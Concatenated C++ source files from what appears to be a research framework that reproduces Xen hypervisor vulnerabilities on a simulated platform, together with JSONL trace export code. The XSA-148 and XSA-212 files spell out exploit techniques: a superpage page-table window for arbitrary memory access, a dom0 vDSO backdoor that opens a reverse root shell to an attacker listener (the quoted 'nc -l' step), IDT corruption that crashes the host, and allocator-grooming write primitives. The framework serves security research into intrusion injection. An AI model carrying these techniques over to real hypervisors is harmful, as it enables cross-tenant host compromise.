std::string metrics_jsonl(const MetricsSnapshot& snapshot) {
  std::ostringstream os;
  os << "{\"type\":\"metrics\",\"counters\":{";
  bool first = true;
  for (const auto& [name, value] : snapshot.counters) {
    if (!first) os << ',';
    first = false;
    os << '"' << json_escape(name) << "\":" << value;
  }
  os << "},\"histograms\":{";
  first = true;
  for (const auto& [name, h] : snapshot.histograms) {
    if (!first) os << ',';
    first = false;
    os << '"' << json_escape(name) << "\":{\"count\":" << h.count
       << ",\"sum\":" << h.sum << ",\"min\":" << h.min << ",\"max\":" << h.max
       << ",\"p50\":" << h.p50 << ",\"p95\":" << h.p95 << ",\"p99\":" << h.p99
       << '}';
  }
  os << "}}";
  return os.str();
}

std::string span_jsonl(const std::string& path, const SpanNode& node) {
  std::ostringstream os;
  os << "{\"type\":\"span\",\"path\":\"" << json_escape(path) << "\",\"kind\":\""
     << (node.kind == SpanKind::Sched ? "sched" : "det")
     << "\",\"count\":" << node.count << ",\"steps\":" << node.steps
     << ",\"total_steps\":" << node.total_steps()
     << ",\"wall_us\":" << node.wall_ns / 1000 << '}';
  return os.str();
}

void write_event(std::ostream& os, const TraceEvent& event,
                 const std::string& cell) {
  os << event_jsonl(event, cell) << '\n';
}

void write_events(std::ostream& os, std::span<const TraceEvent> events,
                  const std::string& cell) {
  for (const TraceEvent& event : events) write_event(os, event, cell);
}

void write_metrics(std::ostream& os, const MetricsSnapshot& snapshot) {
  os << metrics_jsonl(snapshot) << '\n';
}

namespace {

void write_span_tree(std::ostream& os, const std::string& path,
                     const SpanNode& node) {
  os << span_jsonl(path, node) << '\n';
  for (const auto& [name, child] : node.children) {
    write_span_tree(os, path.empty() ? name : path + '/' + name, *child);
  }
}

}  // namespace

void write_spans(std::ostream& os, const SpanProfiler& profiler) {
  for (const auto& [name, child] : profiler.root().children) {
    write_span_tree(os, name, *child);
  }
}

JsonlWriter::JsonlWriter(const std::string& path)
    : path_{path}, os_{path, std::ios::trunc} {}

void JsonlWriter::event(const TraceEvent& ev, const std::string& cell) {
  write_event(os_, ev, cell);
}

void JsonlWriter::events(std::span<const TraceEvent> evs,
                         const std::string& cell) {
  write_events(os_, evs, cell);
}

void JsonlWriter::metrics(const MetricsSnapshot& snapshot) {
  write_metrics(os_, snapshot);
}

void JsonlWriter::spans(const SpanProfiler& profiler) {
  write_spans(os_, profiler);
}

}  // namespace ii::obs
