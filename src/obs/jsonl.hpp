// JSONL export of traces and metric snapshots.
//
// One JSON object per line, so downstream analysis can stream a campaign
// trace with `jq`/pandas without loading it whole. Two record types:
//   {"type":"trace", ...}    one per TraceEvent (optionally cell-tagged)
//   {"type":"metrics", ...}  one per MetricsSnapshot
#pragma once

#include <iosfwd>
#include <span>
#include <string>

#include "obs/metrics.hpp"
#include "obs/trace.hpp"

namespace ii::obs {

/// Minimal JSON string escaping (quotes, backslashes, control chars).
[[nodiscard]] std::string json_escape(const std::string& s);

/// One trace record as a single JSON line (no trailing newline). When
/// `cell` is non-empty it is attached as the event's campaign-cell tag.
[[nodiscard]] std::string event_jsonl(const TraceEvent& event,
                                      const std::string& cell = {});

/// One metrics snapshot as a single JSON line (no trailing newline).
[[nodiscard]] std::string metrics_jsonl(const MetricsSnapshot& snapshot);

/// Stream helpers: newline-terminated record(s).
void write_event(std::ostream& os, const TraceEvent& event,
                 const std::string& cell = {});
void write_events(std::ostream& os, std::span<const TraceEvent> events,
                  const std::string& cell = {});
void write_metrics(std::ostream& os, const MetricsSnapshot& snapshot);

}  // namespace ii::obs
