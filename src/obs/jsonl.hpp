// JSONL export of traces and metric snapshots.
//
// One JSON object per line, so downstream analysis can stream a campaign
// trace with `jq`/pandas without loading it whole. Three record types:
//   {"type":"trace", ...}    one per TraceEvent (optionally cell-tagged)
//   {"type":"metrics", ...}  one per MetricsSnapshot
//   {"type":"span", ...}     one per aggregated SpanProfiler tree node
#pragma once

#include <fstream>
#include <iosfwd>
#include <span>
#include <string>

#include "obs/metrics.hpp"
#include "obs/span.hpp"
#include "obs/trace.hpp"

namespace ii::obs {

/// Minimal JSON string escaping (quotes, backslashes, control chars).
[[nodiscard]] std::string json_escape(const std::string& s);

/// One trace record as a single JSON line (no trailing newline). When
/// `cell` is non-empty it is attached as the event's campaign-cell tag.
[[nodiscard]] std::string event_jsonl(const TraceEvent& event,
                                      const std::string& cell = {});

/// One metrics snapshot as a single JSON line (no trailing newline).
[[nodiscard]] std::string metrics_jsonl(const MetricsSnapshot& snapshot);

/// One span-tree node as a single JSON line (no trailing newline).
/// `path` is the slash-joined location of `node` in its profiler's tree.
/// Wall time rides along (this is a data export, not a cmp-gated render).
[[nodiscard]] std::string span_jsonl(const std::string& path,
                                     const SpanNode& node);

/// Stream helpers: newline-terminated record(s).
void write_event(std::ostream& os, const TraceEvent& event,
                 const std::string& cell = {});
void write_events(std::ostream& os, std::span<const TraceEvent> events,
                  const std::string& cell = {});
void write_metrics(std::ostream& os, const MetricsSnapshot& snapshot);
/// Every node of the profiler's tree, preorder, one line each.
void write_spans(std::ostream& os, const SpanProfiler& profiler);

/// Owning JSONL file writer shared by the CLIs (campaign --trace,
/// analysis --trace-out/--metrics-out): opens the file eagerly so flag
/// typos fail before a long run, then appends typed records.
class JsonlWriter {
 public:
  explicit JsonlWriter(const std::string& path);

  /// False when the file could not be opened (or a write failed).
  [[nodiscard]] bool ok() const { return static_cast<bool>(os_); }
  [[nodiscard]] const std::string& path() const { return path_; }

  void event(const TraceEvent& ev, const std::string& cell = {});
  void events(std::span<const TraceEvent> evs, const std::string& cell = {});
  void metrics(const MetricsSnapshot& snapshot);
  void spans(const SpanProfiler& profiler);

 private:
  std::string path_;
  std::ofstream os_;
};

}  // namespace ii::obs
