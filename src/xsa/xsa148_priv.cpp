// XSA-148 privilege escalation ("from guest to host", Quarkslab part 2):
// the missing PSE check in L2 validation lets the guest install a 2 MiB
// superpage entry covering its own page-table frames. Rewriting its own L1
// entries through that window (plain stores, no hypercalls) gives a
// remappable view of *any* machine frame. The PoC scans physical memory for
// dom0's fingerprintable start_info page, locates the vDSO, and patches in
// a backdoor that opens a reverse root shell to the attacker's listener.
#include <cstring>

#include "core/injector.hpp"
#include "core/monitor.hpp"
#include "xsa/detail.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

constexpr std::uint64_t kTwoMb = sim::kPageSize * sim::kPtEntries;

/// What the scan extracts from a candidate start_info page.
struct StartInfoHit {
  sim::Mfn mfn{};
  std::uint16_t domid = 0;
};

bool parse_start_info(std::span<const std::uint8_t> bytes,
                      std::uint16_t* domid) {
  const char* magic = guest::StartInfoLayout::kMagic;
  if (bytes.size() < 0x30) return false;
  if (std::memcmp(bytes.data() + guest::StartInfoLayout::kMagicOffset, magic,
                  std::strlen(magic) + 1) != 0) {
    return false;
  }
  std::memcpy(domid, bytes.data() + guest::StartInfoLayout::kDomIdOffset,
              sizeof *domid);
  return true;
}

bool looks_like_vdso(std::span<const std::uint8_t> bytes) {
  if (bytes.size() < 0x30) return false;
  if (std::memcmp(bytes.data(), guest::VdsoLayout::kElfMagic, 4) != 0) {
    return false;
  }
  const char* sig = guest::VdsoLayout::kSignature;
  return std::memcmp(bytes.data() + guest::VdsoLayout::kSignatureOffset, sig,
                     std::strlen(sig)) == 0;
}

guest::VdsoBackdoor make_backdoor(const std::string& attacker_host) {
  guest::VdsoBackdoor bd{};
  bd.magic = guest::VdsoLayout::kBackdoorMagic;
  std::snprintf(bd.host, sizeof bd.host, "%s", attacker_host.c_str());
  bd.port = Xsa148Priv::kShellPort;
  return bd;
}

/// Shared pre-attack stage setting: the victim's secret and the attacker's
/// listener (the `nc -l -vvv -p 1234` step).
void stage_environment(guest::VirtualPlatform& p) {
  p.dom0().fs().write("/root/root_msg", /*uid=*/0,
                      "Confidential content in root folder!");
  p.attacker().listen(Xsa148Priv::kShellPort);
}

/// The exploit's arbitrary-physical-memory view: a writable superpage
/// window over the guest's own L1 table, used to retarget a scratch PTE at
/// any machine frame.
class SuperpageWindow {
 public:
  SuperpageWindow(guest::GuestKernel& guest, core::CaseOutcome& out)
      : guest_{&guest}, out_{&out} {}

  /// Install the PSE entry. Returns the hypercall rc.
  long install() {
    const std::uint64_t window_slot = guest_->l1_table_count();
    window_base_ =
        sim::Mfn{guest_->l1_mfn(0).raw() & ~(sim::kPtEntries - 1)};
    window_va_ = sim::Vaddr{hv::kGuestKernelBase + window_slot * kTwoMb};

    const sim::Paddr l2_slot =
        sim::mfn_to_paddr(guest_->l2_mfn()) + window_slot * 8;
    const sim::Pte pse_entry = sim::Pte::make(
        window_base_, sim::Pte::kPresent | sim::Pte::kWritable |
                          sim::Pte::kUser | sim::Pte::kPageSize);
    const long rc = guest_->mmu_update_one(l2_slot, pse_entry.raw());
    if (rc != hv::kOk) return rc;

    scratch_pfn_ = *guest_->alloc_pfn();
    detail::note(*out_, *guest_,
                 "aligned_mfn_va = " + detail::hex(window_va_.raw()));
    detail::note(*out_, *guest_,
                 "aligned_mfn_va mfn = " + detail::hex(window_base_.raw()));
    detail::note(*out_, *guest_,
                 "l2_entry_va = " + detail::hex(l2_slot.raw()));
    return hv::kOk;
  }

  /// Point the scratch PTE at `target` by writing the L1 slot *through the
  /// superpage window* — a plain guest store, no hypercall, no validation.
  bool remap_scratch(sim::Mfn target) {
    const std::uint64_t l1_offset =
        (guest_->l1_mfn(scratch_pfn_.raw() / sim::kPtEntries).raw() -
         window_base_.raw()) *
        sim::kPageSize;
    const sim::Vaddr slot_va{window_va_.raw() + l1_offset +
                             (scratch_pfn_.raw() % sim::kPtEntries) * 8};
    const sim::Pte pte = sim::Pte::make(
        target,
        sim::Pte::kPresent | sim::Pte::kWritable | sim::Pte::kUser);
    return guest_->write_u64(slot_va, pte.raw());
  }

  bool read_frame(sim::Mfn target, std::span<std::uint8_t> out) {
    return remap_scratch(target) &&
           guest_->read_virt(guest_->pfn_va(scratch_pfn_), out);
  }

  bool write_frame(sim::Mfn target, std::uint64_t offset,
                   std::span<const std::uint8_t> in) {
    return remap_scratch(target) &&
           guest_->write_virt(guest_->pfn_va(scratch_pfn_, offset), in);
  }

 private:
  guest::GuestKernel* guest_;
  core::CaseOutcome* out_;
  sim::Mfn window_base_{};
  sim::Vaddr window_va_{};
  sim::Pfn scratch_pfn_{};
};

/// Generic fingerprint scan over all machine frames through any
/// "read 0x60 bytes of frame N" primitive.
template <typename ReadFrame>
std::optional<StartInfoHit> scan_for_dom0(std::uint64_t frame_count,
                                          ReadFrame&& read_frame) {
  std::array<std::uint8_t, 0x60> head{};
  for (std::uint64_t f = 0; f < frame_count; ++f) {
    if (!read_frame(sim::Mfn{f}, std::span<std::uint8_t>{head})) continue;
    std::uint16_t domid = 0xFFFF;
    if (parse_start_info(head, &domid) && domid == hv::kDom0) {
      return StartInfoHit{sim::Mfn{f}, domid};
    }
  }
  return std::nullopt;
}

}  // namespace

core::IntrusionModel Xsa148Priv::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::UnprivilegedGuest,
      .component = core::TargetComponent::MemoryManagement,
      .interface = core::InteractionInterface::Hypercall,
      .functionality =
          core::AbusiveFunctionality::GuestWritablePageTableEntry,
      .erroneous_state =
          "writable superpage over own page tables; dom0 vDSO backdoored",
  };
}

core::CaseOutcome Xsa148Priv::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  stage_environment(p);
  detail::note(out, guest,
               "xen_exploit: xen version = " + p.hv().version().to_string());

  SuperpageWindow window{guest, out};
  out.rc = window.install();
  if (out.rc != hv::kOk) {
    detail::note(out, guest,
                 std::string{"mmu_update(PSE) rejected: "} +
                     hv::errno_name(out.rc) + " (vulnerability fixed)");
    return out;
  }
  detail::note(out, guest, "startup_dump ok");

  const auto hit = scan_for_dom0(
      p.memory().frame_count(), [&](sim::Mfn f, std::span<std::uint8_t> b) {
        return window.read_frame(f, b);
      });
  if (!hit) {
    detail::note(out, guest, "dom0 start_info not found");
    return out;
  }
  detail::note(out, guest,
               "start_info page: " + detail::hex(hit->mfn.raw()));
  detail::note(out, guest, "dom0!");

  // The domain builder places the vDSO right after start_info.
  const sim::Mfn vdso{hit->mfn.raw() + 1};
  std::array<std::uint8_t, 0x60> head{};
  if (!window.read_frame(vdso, head) || !looks_like_vdso(head)) {
    detail::note(out, guest, "dom0 vdso not found");
    return out;
  }
  detail::note(out, guest, "dom0 vdso : " + detail::hex(vdso.raw()));

  const guest::VdsoBackdoor bd = make_backdoor(p.config().attacker_host);
  if (!window.write_frame(vdso, guest::VdsoLayout::kBackdoorOffset,
                          {reinterpret_cast<const std::uint8_t*>(&bd),
                           sizeof bd})) {
    detail::note(out, guest, "vdso patch failed");
    return out;
  }
  detail::note(out, guest, "vdso backdoor installed");

  // A dom0 process enters the vDSO (normal system activity); the implant
  // phones home.
  p.dom0().invoke_vdso(/*uid=*/0);
  out.completed = true;
  return out;
}

core::CaseOutcome Xsa148Priv::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  stage_environment(p);
  detail::note(out, guest,
               "injection: scanning physical memory via arbitrary_access");

  core::ArbitraryAccessInjector injector{guest};
  const auto hit = scan_for_dom0(
      p.memory().frame_count(), [&](sim::Mfn f, std::span<std::uint8_t> b) {
        return injector.read(sim::mfn_to_paddr(f).raw(), b,
                             core::AddressMode::Physical);
      });
  out.rc = injector.last_rc();
  if (!hit) {
    detail::note(out, guest, "dom0 start_info not found");
    return out;
  }
  detail::note(out, guest,
               "start_info page: " + detail::hex(hit->mfn.raw()));
  detail::note(out, guest, "dom0!");

  const sim::Mfn vdso{hit->mfn.raw() + 1};
  std::array<std::uint8_t, 0x60> head{};
  if (!injector.read(sim::mfn_to_paddr(vdso).raw(), head,
                     core::AddressMode::Physical) ||
      !looks_like_vdso(head)) {
    detail::note(out, guest, "dom0 vdso not found");
    return out;
  }
  detail::note(out, guest, "dom0 vdso : " + detail::hex(vdso.raw()));

  const guest::VdsoBackdoor bd = make_backdoor(p.config().attacker_host);
  if (!injector.write(
          sim::mfn_to_paddr(vdso).raw() + guest::VdsoLayout::kBackdoorOffset,
          {reinterpret_cast<const std::uint8_t*>(&bd), sizeof bd},
          core::AddressMode::Physical)) {
    out.rc = injector.last_rc();
    detail::note(out, guest, "vdso patch failed");
    return out;
  }
  detail::note(out, guest, "vdso backdoor installed");

  p.dom0().invoke_vdso(/*uid=*/0);
  out.completed = true;
  return out;
}

bool Xsa148Priv::erroneous_state_present(guest::VirtualPlatform& p) const {
  // Audit dom0's vDSO page for the implant.
  const auto vdso_mfn = p.dom0().pfn_to_mfn(guest::kVdsoPfn);
  if (!vdso_mfn) return false;
  guest::VdsoBackdoor bd{};
  p.hv().memory().read(
      sim::mfn_to_paddr(*vdso_mfn) + guest::VdsoLayout::kBackdoorOffset,
      {reinterpret_cast<std::uint8_t*>(&bd), sizeof bd});
  return bd.magic == guest::VdsoLayout::kBackdoorMagic;
}

bool Xsa148Priv::security_violation(guest::VirtualPlatform& p) const {
  core::SystemMonitor monitor{p};
  return monitor.attacker_root_shell(kShellPort);
}

std::string Xsa148Priv::erroneous_state_description(
    guest::VirtualPlatform& p) const {
  const auto vdso_mfn = p.dom0().pfn_to_mfn(guest::kVdsoPfn);
  if (!vdso_mfn) return {};
  guest::VdsoBackdoor bd{};
  p.hv().memory().read(
      sim::mfn_to_paddr(*vdso_mfn) + guest::VdsoLayout::kBackdoorOffset,
      {reinterpret_cast<std::uint8_t*>(&bd), sizeof bd});
  if (bd.magic != guest::VdsoLayout::kBackdoorMagic) return {};
  bd.host[sizeof bd.host - 1] = 0;
  return std::string{"dom0 vDSO backdoored: reverse shell to "} + bd.host +
         ":" + std::to_string(bd.port);
}

}  // namespace ii::xsa
