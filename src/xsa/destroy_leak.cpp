// Recycled-frame disclosure use case (extension): "Read Unauthorized
// Memory" through unscrubbed domain teardown, driven from the management
// interface — the second future-work direction §IX-C names ("activities
// originating from the management interface").
//
// Scenario: tenant B writes confidential data, the operator destroys B's
// domain, and tenant A balloons pages out and back in. Without eager
// scrubbing the recycled frames still carry B's bytes. The injection
// variant reads the freed frames directly with the injector (the Read
// Unauthorized Memory interface), which reproduces the erroneous state on
// every version — and shows the 4.13 scrubbing policy *handling* it, since
// the readable bytes are zeros.
#include <cstring>

#include "core/injector.hpp"
#include "xsa/detail.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

constexpr const char* kSecret = "TENANT-B CONFIDENTIAL LEDGER 9914";

/// Victim workload: scatter the secret through the soon-to-die domain.
void stage_victim(guest::GuestKernel& victim) {
  const std::span<const std::uint8_t> bytes{
      reinterpret_cast<const std::uint8_t*>(kSecret), std::strlen(kSecret)};
  for (int i = 0; i < 8; ++i) {
    const auto pfn = victim.alloc_pfn();
    if (!pfn) break;
    (void)victim.write_virt(victim.pfn_va(*pfn, 0x100), bytes);
  }
  victim.fs().write("/root/ledger", 0, kSecret);
}

bool contains_secret(std::span<const std::uint8_t> haystack) {
  const std::size_t n = std::strlen(kSecret);
  if (haystack.size() < n) return false;
  for (std::size_t i = 0; i + n <= haystack.size(); ++i) {
    if (std::memcmp(haystack.data() + i, kSecret, n) == 0) return true;
  }
  return false;
}

}  // namespace

core::IntrusionModel DestroyLeak::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::ManagementInterface,
      .component = core::TargetComponent::MemoryManagement,
      .interface = core::InteractionInterface::Hypercall,
      .functionality = core::AbusiveFunctionality::ReadUnauthorizedMemory,
      .erroneous_state =
          "destroyed tenant's frames reachable with residual contents",
  };
}

core::CaseOutcome DestroyLeak::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& attacker = p.guest(0);
  stage_victim(p.guest(1));
  victim_range_ = {p.hv().domain(p.guest(1).id()).p2m(sim::Pfn{0})->raw(),
                   p.guest(1).nr_pages()};

  detail::note(out, attacker, "operator destroys tenant-B domain");
  out.rc = p.destroy_guest(1);
  if (out.rc != hv::kOk) return out;

  // Balloon dance: give pages back, repopulate — the heap hands out the
  // victim's recycled frames first.
  detail::note(out, attacker, "ballooning to harvest recycled frames");
  bool found = false;
  for (int round = 0; round < 32 && !found; ++round) {
    const auto pfn = attacker.alloc_pfn();
    if (!pfn) break;
    if (attacker.unmap_pfn(*pfn) != hv::kOk ||
        attacker.decrease_reservation(*pfn) != hv::kOk ||
        attacker.populate_physmap(*pfn) != hv::kOk ||
        attacker.map_pfn(*pfn) != hv::kOk) {
      out.rc = hv::kEINVAL;
      return out;
    }
    std::array<std::uint8_t, sim::kPageSize> page{};
    if (!attacker.read_virt(attacker.pfn_va(*pfn), page)) continue;
    if (contains_secret(page)) {
      detail::note(out, attacker,
                   "recycled frame mfn " +
                       detail::hex(attacker.pfn_to_mfn(*pfn)->raw()) +
                       " still holds tenant-B data");
      found = true;
    }
  }
  if (!found) {
    detail::note(out, attacker,
                 "recycled frames are clean (eager scrubbing in effect)");
    return out;
  }
  out.completed = true;
  return out;
}

core::CaseOutcome DestroyLeak::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& attacker = p.guest(0);
  stage_victim(p.guest(1));
  const std::uint64_t first = p.hv()
                                  .domain(p.guest(1).id())
                                  .p2m(sim::Pfn{0})
                                  ->raw();
  const std::uint64_t pages = p.guest(1).nr_pages();
  victim_range_ = {first, pages};

  detail::note(out, attacker, "operator destroys tenant-B domain");
  out.rc = p.destroy_guest(1);
  if (out.rc != hv::kOk) return out;

  // Inject the Read Unauthorized Memory state directly: scan the dead
  // tenant's (now free) frame range with the injector.
  detail::note(out, attacker, "injector scans the freed frame range");
  core::ArbitraryAccessInjector injector{attacker};
  bool found = false;
  std::array<std::uint8_t, sim::kPageSize> page{};
  for (std::uint64_t f = first; f < first + pages; ++f) {
    if (!injector.read(sim::mfn_to_paddr(sim::Mfn{f}).raw(), page,
                       core::AddressMode::Physical)) {
      out.rc = injector.last_rc();
      return out;
    }
    if (contains_secret(page)) {
      detail::note(out, attacker,
                   "freed frame mfn " + detail::hex(f) +
                       " still holds tenant-B data");
      found = true;
      break;
    }
  }
  out.rc = hv::kOk;
  if (!found) {
    detail::note(out, attacker,
                 "freed frames read as zeros (eager scrubbing in effect)");
  }
  out.completed = true;  // the unauthorized reads themselves all succeeded
  return out;
}

bool DestroyLeak::erroneous_state_present(guest::VirtualPlatform& p) const {
  // The erroneous state is "the dead tenant's frames are reachable":
  // either recycled into the attacker or readable via the injector. After
  // destruction the frames are free or attacker-owned — both reachable.
  const auto [first, pages] = victim_range_;
  if (pages == 0) return false;
  for (std::uint64_t f = first; f < first + pages; ++f) {
    const auto& pi = p.hv().frames().info(sim::Mfn{f});
    if (pi.owner == hv::kDomInvalid || pi.owner == p.guest(0).id()) {
      return true;
    }
  }
  return false;
}

bool DestroyLeak::security_violation(guest::VirtualPlatform& p) const {
  // Confidentiality violation: the secret is still present anywhere in the
  // dead tenant's former frames.
  const auto [first, pages] = victim_range_;
  for (std::uint64_t f = first; f < first + pages; ++f) {
    if (!p.memory().contains(sim::Mfn{f})) break;
    if (contains_secret(p.memory().frame_bytes(sim::Mfn{f}))) return true;
  }
  return false;
}

}  // namespace ii::xsa
