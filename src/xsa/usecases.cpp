#include "xsa/usecases.hpp"

namespace ii::xsa {

std::vector<std::unique_ptr<core::UseCase>> make_paper_use_cases() {
  std::vector<std::unique_ptr<core::UseCase>> cases;
  cases.push_back(std::make_unique<Xsa212Crash>());
  cases.push_back(std::make_unique<Xsa212Priv>());
  cases.push_back(std::make_unique<Xsa148Priv>());
  cases.push_back(std::make_unique<Xsa182Test>());
  return cases;
}

std::vector<std::unique_ptr<core::UseCase>> make_extension_use_cases() {
  std::vector<std::unique_ptr<core::UseCase>> cases;
  cases.push_back(std::make_unique<Xsa387Keep>());
  cases.push_back(std::make_unique<EvtchnStorm>());
  cases.push_back(std::make_unique<DestroyLeak>());
  cases.push_back(std::make_unique<Xsa133Venom>());
  return cases;
}

}  // namespace ii::xsa
