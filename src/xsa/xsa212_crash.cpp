// XSA-212 PoC #1 ("xen: broken check in memory_exchange() permits PV guest
// breakout", Project Zero issue 1184): aim the exchange's unvalidated
// output pointer at the IDT's page-fault gate, then take a page fault. The
// garbage MFN lands across the gate descriptor, clears its present bit, and
// the next fault double-faults the host.
#include "core/injector.hpp"
#include "core/monitor.hpp"
#include "xsa/detail.hpp"
#include "xsa/exchange_primitive.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

/// Linear address (as returned by `sidt` + offset arithmetic) of the
/// page-fault gate descriptor.
sim::Vaddr page_fault_gate(guest::VirtualPlatform& p) {
  return sim::Vaddr{p.hv().sidt().raw() +
                    sim::kPageFaultVector * sim::Idt::kGateBytes};
}

/// Deliberately touch an unmapped address so the hypervisor dispatches
/// vector 14 through the (now corrupt) IDT.
void trigger_page_fault(guest::GuestKernel& guest) {
  std::uint8_t byte = 0;
  (void)guest.read_virt(sim::Vaddr{0xDEAD000000ULL}, {&byte, 1});
}

}  // namespace

core::IntrusionModel Xsa212Crash::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::UnprivilegedGuest,
      .component = core::TargetComponent::MemoryManagement,
      .interface = core::InteractionInterface::Hypercall,
      .functionality =
          core::AbusiveFunctionality::WriteUnauthorizedArbitraryMemory,
      .erroneous_state = "IDT page-fault handler descriptor overwritten",
  };
}

core::CaseOutcome Xsa212Crash::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  const sim::Vaddr target = page_fault_gate(p);
  detail::note(out, guest, "sidt -> IDT gate 14 at " + detail::hex(target.raw()));

  ExchangeWritePrimitive prim{guest};
  out.rc = prim.write_mfn_at(target);
  if (out.rc != hv::kOk) {
    detail::note(out, guest,
                 std::string{"memory_exchange failed: "} +
                     hv::errno_name(out.rc) + " (vulnerability fixed)");
    return out;
  }
  detail::note(out, guest,
               "exchange output written over IDT gate (mfn " +
                   detail::hex(prim.last_mfn()) + ")");
  trigger_page_fault(guest);
  detail::note(out, guest, "page fault triggered");
  out.completed = true;
  return out;
}

core::CaseOutcome Xsa212Crash::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  const sim::Vaddr target = page_fault_gate(p);
  detail::note(out, guest,
               "injecting IDT gate overwrite at " + detail::hex(target.raw()));

  core::ArbitraryAccessInjector injector{guest};
  // Any value with a clear byte 5 un-presents the gate, same as the
  // exploit's stray MFN; zero matches the exploit's observable exactly.
  const bool ok = injector.write_u64(target.raw(), 0,
                                     core::AddressMode::Linear) &&
                  injector.write_u64(target.raw() + 8, 0,
                                     core::AddressMode::Linear);
  out.rc = injector.last_rc();
  if (!ok) {
    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
                                 hv::errno_name(out.rc));
    return out;
  }
  trigger_page_fault(guest);
  detail::note(out, guest, "page fault triggered");
  out.completed = true;
  return out;
}

bool Xsa212Crash::erroneous_state_present(guest::VirtualPlatform& p) const {
  const sim::IdtGate gate = p.hv().idt().read(sim::kPageFaultVector);
  return gate.handler != p.hv().default_handler(sim::kPageFaultVector) ||
         !gate.well_formed();
}

bool Xsa212Crash::security_violation(guest::VirtualPlatform& p) const {
  return p.hv().crashed();
}

std::string Xsa212Crash::erroneous_state_description(
    guest::VirtualPlatform& p) const {
  const sim::IdtGate gate = p.hv().idt().read(sim::kPageFaultVector);
  if (gate.handler == p.hv().default_handler(sim::kPageFaultVector) &&
      gate.well_formed()) {
    return {};
  }
  // The descriptor bytes differ run to run (the exploit scribbles an MFN,
  // the script writes zeros); what both runs share — and what §VI-C audits
  // — is that the gate is no longer a valid page-fault handler.
  return "idt[14]: page-fault gate overwritten, descriptor no longer valid";
}

}  // namespace ii::xsa
