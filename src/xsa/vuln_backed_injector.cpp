#include "xsa/vuln_backed_injector.hpp"

#include <cstring>

namespace ii::xsa {

bool VulnerabilityBackedInjector::read(std::uint64_t addr,
                                       std::span<std::uint8_t> out,
                                       core::AddressMode mode) {
  (void)addr;
  (void)out;
  (void)mode;
  // memory_exchange only writes outward; the repurposed functionality has
  // no read path (a concrete limitation of non-purpose-built injectors).
  last_rc_ = hv::kENOSYS;
  return false;
}

bool VulnerabilityBackedInjector::write(std::uint64_t addr,
                                        std::span<const std::uint8_t> in,
                                        core::AddressMode mode) {
  if (mode != core::AddressMode::Linear) {
    last_rc_ = hv::kEINVAL;  // physical addressing is not expressible
    return false;
  }
  if (!primitive_.ready()) {
    last_rc_ = hv::kENOMEM;
    return false;
  }
  // Assemble the byte span from groomed 8-byte writes. The final partial
  // word (if any) is completed with a groomed zero tail, which callers
  // must budget scratch space for — exactly the kind of constraint the
  // purpose-built injector does not impose.
  std::size_t off = 0;
  for (; off + 8 <= in.size(); off += 8) {
    std::uint64_t word = 0;
    std::memcpy(&word, in.data() + off, 8);
    if (!primitive_.write_u64(sim::Vaddr{addr + off}, word)) {
      last_rc_ = primitive_.rc();
      return false;
    }
  }
  if (off < in.size()) {
    // Trailing partial word: zero-padded to 8 bytes, so up to 7 bytes past
    // the span get cleared — callers must budget that scratch space.
    std::uint64_t word = 0;
    std::memcpy(&word, in.data() + off, in.size() - off);
    if (!primitive_.write_u64(sim::Vaddr{addr + off}, word)) {
      last_rc_ = primitive_.rc();
      return false;
    }
  }
  last_rc_ = hv::kOk;
  return true;
}

}  // namespace ii::xsa
