// The XSA-212 arbitrary-write primitive.
//
// memory_exchange() on a vulnerable hypervisor writes each replacement MFN
// through the unvalidated guest pointer `out.extent_start` — an 8-byte
// supervisor write at an attacker-chosen linear address, but with a value
// the attacker only influences through allocator grooming. This class
// packages the two stages the real PoCs needed:
//
//   write_mfn_at():  one raw primitive shot (enough to wreck an IDT gate);
//   write_u64():     a fully controlled 8-byte write, built by grooming the
//                    allocator until each fresh MFN's low byte matches the
//                    next target byte, sweeping the write window one byte at
//                    a time (low to high). The sweep spills up to 7 bytes of
//                    allocator garbage just past the target; zero_byte_at()
//                    lets callers neutralize the one byte that matters
//                    (e.g. a following PTE's present bit).
#pragma once

#include <cstdint>
#include <optional>

#include "guest/kernel.hpp"

namespace ii::xsa {

class ExchangeWritePrimitive {
 public:
  /// Prepares a sacrificial page in `guest` (allocated and unmapped so the
  /// hypervisor will accept it for exchange).
  explicit ExchangeWritePrimitive(guest::GuestKernel& guest);

  /// Whether setup succeeded (a page could be sacrificed).
  [[nodiscard]] bool ready() const { return ready_; }

  /// One raw exchange: writes the fresh MFN (8 bytes) at linear `target`.
  /// Returns the hypercall status; on success `last_mfn()` is the value
  /// that was written.
  long write_mfn_at(sim::Vaddr target);

  /// Groomed fully-controlled write of `value` at linear `target`.
  /// Returns false when the hypercall refuses (fixed hypervisor) or when
  /// grooming fails to converge; rc() has the last status.
  bool write_u64(sim::Vaddr target, std::uint64_t value);

  /// Groom a single zero byte at `target` (cleanup of sweep spill).
  bool zero_byte_at(sim::Vaddr target);

  [[nodiscard]] long rc() const { return rc_; }
  [[nodiscard]] std::uint64_t last_mfn() const { return last_mfn_; }
  [[nodiscard]] unsigned exchanges_used() const { return exchanges_; }

 private:
  /// Loop exchanges until the fresh MFN's low byte equals `byte`, writing
  /// at `target` each time. False when the hypercall fails or the loop
  /// exceeds its budget.
  bool groom_byte_at(sim::Vaddr target, std::uint8_t byte);

  guest::GuestKernel* guest_;
  sim::Pfn sacrifice_{};
  bool ready_ = false;
  long rc_ = 0;
  std::uint64_t last_mfn_ = 0;
  unsigned exchanges_ = 0;
};

}  // namespace ii::xsa
