// An Injector implemented through an existing vulnerability.
//
// Paper §IV-A, on realizing the injector component: "it can be an existing
// system configuration or functionality used in a non-conforming manner or
